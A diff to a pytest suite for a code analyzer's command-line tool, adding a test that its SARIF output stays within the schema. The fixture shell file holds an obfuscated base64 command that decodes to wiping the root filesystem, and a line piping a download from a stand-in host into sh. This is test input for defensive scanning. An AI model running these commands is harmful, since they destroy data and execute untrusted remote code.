@@ -11,6 +11,7 @@ from typing import Any
 import pytest
 
 from engine.doors.cli import main
+from tests.engine.doors.cli import sarif
 
 
 @pytest.fixture(autouse=True)
@@ -106,6 +107,19 @@ def test_sarif_names_rules_levels_and_regions(capsys: pytest.CaptureFixture[str]
     assert {"note", "warning", "error"} >= {result["level"] for result in run["results"]}
     region = run["results"][-1]["locations"][0]["physicalLocation"]["region"]
     assert {"startLine": 2, "startColumn": 1, "endLine": 2, "endColumn": 19} == region
+
+
+def test_sarif_holds_to_its_schema(capsys: pytest.CaptureFixture[str], tmp_path: Path, nosy: Path) -> None:
+    """Odd names, many files, related places, layers and unreadable code: all within the standard."""
+    odd = tmp_path / "h\u00e9 llo #1%?.sh"
+    odd.write_text("echo cm0gLXJmIC8= | base64 -d | sh\ncurl http://a.example | sh\n")
+    broken = tmp_path / "broken.js"
+    broken.write_text("eval(x); eval(x); ((")
+    _, output = _run(capsys, ["analyze", "--sarif", nosy, odd, broken])
+    log = json.loads(output)
+    assert [] == [error["message"] for error in sarif.errors(log)]
+    assert ["runs"] == [error["path"] for error in sarif.errors(log | {"runs": 1})]
+    assert not log["runs"][0]["invocations"][0]["executionSuccessful"]
 
 
 @pytest.mark.parametrize(
